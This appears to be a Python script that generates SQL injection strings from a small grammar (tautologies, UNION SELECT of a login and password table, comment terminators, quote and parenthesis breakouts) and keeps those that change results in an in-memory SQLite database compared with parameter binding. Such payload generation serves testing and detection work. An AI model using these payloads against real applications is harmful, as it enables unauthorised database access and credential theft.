"""Attacks on SQL that SQLite proves: values made by a small grammar are pasted into statements, and those that change the rows
which the same value gives as a parameter are printed, one a line, in hexadecimal. Arguments: how many values to make, seed."""
import random
import sqlite3
import sys

made, seed = int(sys.argv[1]), int(sys.argv[2])
pick = random.Random(seed).choice
base = sqlite3.connect(":memory:")
base.execute("create table t(id integer, name text)")
base.executemany("insert into t values(?, ?)", [(1, "ann"), (2, "bob"), (3, "eve")])
base.execute("create table u(login text, password text)")
base.execute("insert into u values('root', 'secret')")

# Statement, quote around the value, parentheses to close.
places = [
    ("select id, name from t where id={}", "", 0),
    ("select id, name from t where (id={})", "", 1),
    ("select id, name from t where id in (select id from t where (id={}))", "", 2),
    ("select id, name from t where name='{}'", "'", 0),
    ("select id, name from t where (name='{}') and id>0", "'", 1),
    ("select id, name from t where name like '%{}%'", "'", 0),
    ("select id, name from t where name=\"{}\"", '"', 0),
    ("select id, name from t where name='{}' and id=1", "'", 0),
]


def blank():
    return pick([" ", " ", " ", "\t", "\n", "/**/", "/*x*/", "  ", "\r\n", "--\n", "--x y\n"])


def case(word):
    return pick([word, word.upper(), word.title(), "".join(pick([c, c.upper()]) for c in word)])


def constant():
    return pick(["1", "2", "0x1f", "1e0", "'a'", "'x'", ".5", "-1", "(1)", "((2))", "1+1", "null", "abs(-1)", "'a'||'b'", "length('a')", "~0", "+1", "x'41'", "true", "char(65)"])


def condition(depth=0):
    kind = pick(range(12))
    a = constant()
    if kind < 4:
        b = pick([a, a, constant()])
        return a + pick(["=", " = ", "==", ">=", "<=", "/**/=", " is ", " like ", "<>", "!=", ">", "<"]) + b
    if kind == 4:
        return a + blank() + case("between") + " 0 " + case("and") + " 9"
    if kind == 5:
        return a + blank() + case("in") + pick(["", " "]) + "(" + a + "," + constant() + ")"
    if kind == 6:
        return case("not") + blank() + constant() + "=" + constant()
    if kind == 7:
        return case("exists") + "(" + case("select") + blank() + pick(["1", "*", "login"]) + blank() + case("from") + blank() + "u)"
    if kind == 8:
        return "(" + case("select") + " " + pick(["count(*)", "max(id)", "1"]) + " " + case("from") + " t)" + pick([">", ">=", "!="]) + "0"
    if kind == 9 and depth < 3:
        return "(" + condition(depth + 1) + ")"
    if kind == 10:
        return a + " " + case("is not null")
    return case("case when") + " " + a + "=" + a + " " + case("then") + " 1 " + case("else") + " 0 " + case("end")


def tail(quote, closing):
    if quote and pick([True, False]) and not closing:
        return " " + case(pick(["or", "and"])) + " " + quote + "a" + quote + "=" + quote + "a"
    if not quote and not closing and pick([True, False]):
        return ""
    return pick(["--", "-- ", "--x", " -- -", "/*", " /*", ";--", "; -- x"])


def value(quote, closing):
    closers = pick([closing, closing, closing, 0, 1])
    head = pick(["", "x", "1", "-1", "9", "zz top"]) if quote else pick(["1", "-1", "0", "9", "1.0", "1+1", "(9)"])
    out = head + quote + ")" * closers
    kind = pick(range(8))
    if kind < 4:
        word = case(pick(["or", "or", "and"]))
        glue = blank() if not quote or pick([True, True, False]) else ""
        out += glue + word + blank() + condition()
        if pick([False, False, True]):
            out += blank() + case(pick(["or", "and"])) + blank() + condition()
    elif kind < 6:
        out += blank() + case(pick(["union", "union all", "except", "intersect"])) + blank() + case("select") + blank()
        out += pick(["1,2", "login,password", "null,sqlite_version()", "*", "1,(select password from u)", "'a','b'", "id,name"])
        if "login" in out or "id,name" in out or out.endswith("*"):
            out += blank() + case("from") + blank() + ("t" if "id,name" in out else "u")
    elif kind == 6:
        out += tail(quote, True)
        return out
    else:
        out += pick(["", " "]) + pick(["+", "-", "||", "*", "=", "<", ">=", "<>"]) + pick(["", " "])
        out += pick(["(select 1)", "1", "(select id from t limit 1)", "abs(-1)"]) if not quote else quote + pick(["", "", "a"])
        return out
    if closers and not pick([True, False]) and quote == "":
        return out + " " + case("or") + " (" * closers + "1=1"
    return out + tail(quote, closers)


def rows(statement, *parameters):
    try:
        return sorted(map(repr, base.execute(statement, parameters).fetchall()))
    except (sqlite3.Error, sqlite3.Warning, ValueError):
        return None


seen = set()
for _ in range(made):
    statement, quote, closing = pick(places)
    text = value(quote, closing)
    if text in seen:
        continue
    seen.add(text)
    pasted = rows(statement.format(text))
    bound = statement.replace(quote + "{}" + quote, "?").replace(quote + "%{}%" + quote, "'%'||?||'%'")
    if pasted is not None and pasted != rows(bound, text):
        print(text.encode().hex())
